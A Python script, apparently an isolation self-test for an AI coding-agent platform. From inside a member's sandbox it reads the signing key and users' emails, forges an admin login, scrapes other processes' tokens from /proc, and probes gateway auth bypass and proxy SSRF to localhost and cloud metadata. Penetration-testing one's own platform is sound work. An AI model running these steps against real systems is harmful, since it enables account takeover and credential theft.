"""What a member's card runs: the old attack, and every port and file of ours. It stands in a repository.

`python3 thief.py DATA BOARD`, with the data folder and the board's port, writes what it got, each under
its name, into `loot.json` beside itself. Standard library only; what is refused is left out.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import http.client
import json
import os
import socket
import sqlite3
import sys
import time
import uuid
from collections.abc import Callable
from contextlib import suppress
from datetime import datetime, timedelta
from pathlib import Path

DATA, BOARD = Path(sys.argv[1]), int(sys.argv[2])
WANTED = (b"OPENCODE_SERVER_PASSWORD", b"SIDECAR_TOKEN", b"CONTROL_TOKEN", b"GATEWAY_TOKEN")


def signing_key() -> str:
    return (DATA / "secret.key").read_text().strip()


def addresses_of_people() -> list[str]:
    rows = sqlite3.connect(f"file:{DATA}/vibe.db?mode=ro", uri=True).execute("SELECT email FROM users")
    return sorted(row[0] for row in rows)


def forged_login() -> str:
    """An admin's bearer token: a row in the table of logins, and what the key signs."""
    database = sqlite3.connect(f"file:{DATA}/vibe.db?mode=rw", uri=True, timeout=10)
    admin = database.execute("SELECT id FROM users WHERE role = 'admin'").fetchone()[0]
    login, now = uuid.uuid4(), datetime.utcnow()
    moment = "%Y-%m-%d %H:%M:%S.%f"
    values = (login.hex, admin, now.strftime(moment), (now + timedelta(days=1)).strftime(moment))
    database.execute("INSERT INTO logins (id, user_id, created_at, expires_at) VALUES (?, ?, ?, ?)", values)
    database.commit()
    coded = lambda raw: base64.urlsafe_b64encode(raw).rstrip(b"=")  # noqa: E731
    claims = {"jti": str(login), "exp": int(time.time()) + 3600, "aud": "bearer"}
    parts = [coded(json.dumps(each).encode()) for each in ({"alg": "HS256", "typ": "JWT"}, claims)]
    mark = hmac.new(signing_key().encode(), b".".join(parts), hashlib.sha256).digest()
    return b".".join([*parts, coded(mark)]).decode()


def secrets_of_processes() -> list[str]:
    got: set[str] = set()
    for name in filter(str.isdigit, os.listdir("/proc")):
        with suppress(OSError):
            pairs = Path("/proc", name, "environ").read_bytes().split(b"\0")
            if any(pair.startswith(b"VIBE_PROJECT_ID") or str(DATA).encode() in pair for pair in pairs):
                got |= {key.decode() for pair in pairs if (key := pair.partition(b"=")[0]) in WANTED}
    return sorted(got)


def own_environment() -> list[str]:
    return sorted(name for name in os.environ if name.encode() in WANTED or name.endswith("_KEY"))


def ports() -> list[str]:
    """Of our services, by their names: those of the record that the server keeps, and the board's."""
    told = _told()
    got: list[str] = []
    for name, port in (told | {"board": BOARD}).items():
        with suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=3):
            got.append(name)
    return sorted(got)


def _ask(port: int, method: str, path: str, **headers: str) -> int:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
    connection.request(method, path, headers={name.replace("_", "-"): text for name, text in headers.items()})
    return connection.getresponse().status


def _told() -> dict[str, int]:
    return json.loads(Path(__file__).with_name("ports.json").read_text())


def opencode_without_password() -> list[str]:
    paths = ("/config", "/session", "/pty", "/event")
    return [path for path in paths if _ask(_told()["opencode_port"], "GET", path) == 200]


def gateway_with_no_token() -> list[str]:
    """With none, another, and in the name of somebody else's session."""
    body = {"content_type": "application/json", "x_session_id": "ses_somebody_elses"}
    got = []
    for token in ("", "Bearer x", "Bearer " + "0" * 64):
        status = _ask(
            _told()["model_port"], "POST", "/rehearsal/chat/completions", authorization=token, **body
        )
        if status not in (401, 403):
            got.append(f"{status}")
    return got


def control_by_the_models_port() -> list[str]:
    """The engine's routes of the gateway at the port that is open to the agent."""
    asked = [
        ("GET", "/usage?after=0"),
        ("PUT", "/configuration"),
        ("DELETE", "/sessions/x"),
        ("GET", "/metrics"),
    ]
    port = _told()["model_port"]
    return [path for method, path in asked if _ask(port, method, path) not in (401, 403, 404, 405)]


def through_the_proxy() -> list[str]:
    """What is ours, by the way out to the network."""
    got = []
    for host in ("127.0.0.1", "localhost", "[::1]", "169.254.169.254", "0x7f.1", "[::ffff:127.0.0.1]"):
        connection = http.client.HTTPConnection("127.0.0.1", _told()["network_port"], timeout=5)
        connection.request("GET", f"http://{host}:{BOARD}/api/health")
        if connection.getresponse().status == 200:
            got.append(host)
    return got


def main() -> None:
    tries: list[Callable[[], object]] = [
        signing_key,
        addresses_of_people,
        forged_login,
        secrets_of_processes,
        own_environment,
        ports,
        opencode_without_password,
        gateway_with_no_token,
        control_by_the_models_port,
        through_the_proxy,
    ]
    loot: dict[str, object] = {}
    for each in tries:
        with suppress(OSError, sqlite3.Error, http.client.HTTPException):
            if got := each():
                loot[each.__name__] = got
    Path(__file__).with_name("loot.json").write_text(json.dumps(loot))
    sys.stdout.write(f"took {sorted(loot)}\n")


main()
